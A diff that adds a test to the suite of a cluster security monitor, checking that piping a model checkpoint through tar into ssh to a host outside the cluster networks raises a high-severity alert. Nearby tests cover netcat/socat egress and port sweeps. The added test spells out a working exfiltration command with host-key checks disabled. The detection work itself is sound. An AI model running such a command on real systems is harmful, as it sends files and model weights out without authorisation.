@@ -717,6 +717,25 @@ def test_a_netcat_reaching_outside_the_cluster_is_alerted(stack):
     assert hit["matched"]["daddr_not_in"] == ns.ns_ip and hit["matched"]["exe_name_in"] == "socat"
 
 
+def test_a_transfer_piped_into_ssh_outside_the_cluster_is_alerted(stack):
+    """`tar ... | ssh host 'cat > x'` sends data off the cluster whatever the host is called: the shell line is a
+    transfer (a signal), the ssh it starts connects outside this site's networks (another), and the two in one
+    process tree are the alert. Real tar, real ssh, a netns peer with nothing listening (the connect is refused)."""
+    job = new_job()
+    cg = job_cgroup(stack, job, "step_0")
+    apply_policy(stack, "lists:\n  cluster_networks: [192.168.0.0/16]\n")     # the netns peer is outside it
+    data = stack["tmp"] / f"ckpt-{job}"
+    data.mkdir()
+    (data / "model.pt").write_bytes(b"\0" * 4096)
+    with netns_peer() as ns:
+        line = (f"tar cf - -C {data} model.pt | ssh -o BatchMode=yes -o ConnectTimeout=5 -o StrictHostKeyChecking=no "
+                f"-o UserKnownHostsFile=/dev/null u@{ns.ns_ip} 'cat > ckpt.tar'")
+        run = run_in_cgroup(cg, ["/bin/sh", "-c", line], capture_output=True, text=True, timeout=60)
+        assert run.returncode != 0 and "ssh" in run.stderr          # refused: nobody listens in the peer
+        hit = the_alert(stack, job, "data-transfer-leaves-cluster")
+    assert hit["severity"] == "high", hit
+
+
 def test_a_port_sweep_is_alerted_by_what_it_does(stack):
     """A scan written in a few lines of Python (no scanner's name, no argv to read): one process fails to connect to
     many distinct destinations. The kernel records each connect and its outcome (refused), the collector counts
